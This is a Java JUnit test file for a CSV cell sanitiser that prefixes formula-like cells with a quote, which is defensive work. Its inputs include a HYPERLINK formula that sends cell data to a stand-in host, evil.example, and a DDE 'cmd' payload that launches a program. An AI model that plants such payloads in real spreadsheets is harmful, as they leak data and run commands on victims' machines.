package dev.storeops.platform.csv;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class CsvCellsTest {
  @ParameterizedTest
  @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
      "@SUM(A1:A9)", "\t=1+1", "\r=1+1"})
  void aCellThatStartsLikeAFormulaIsNeutralised(String cell) {
    assertEquals("'" + cell, CsvCells.neutralise(cell));
  }

  @ParameterizedTest
  @ValueSource(strings = {"TEA-001", "Чай = вкусный", "12", "", " =1", "'=already"})
  void otherCellsStayAsTheyAre(String cell) {
    assertEquals(cell, CsvCells.neutralise(cell));
  }

  @Test
  void nullStaysNullAndRecordsAreNeutralisedCellByCell() {
    assertNull(CsvCells.neutralise((String) null));
    assertEquals(Arrays.asList("7", "'=1+1", null, "ok"), CsvCells.neutralise(Arrays.asList("7", "=1+1", null, "ok")));
    assertEquals(List.of(), CsvCells.neutralise(List.<String>of()));
  }
}
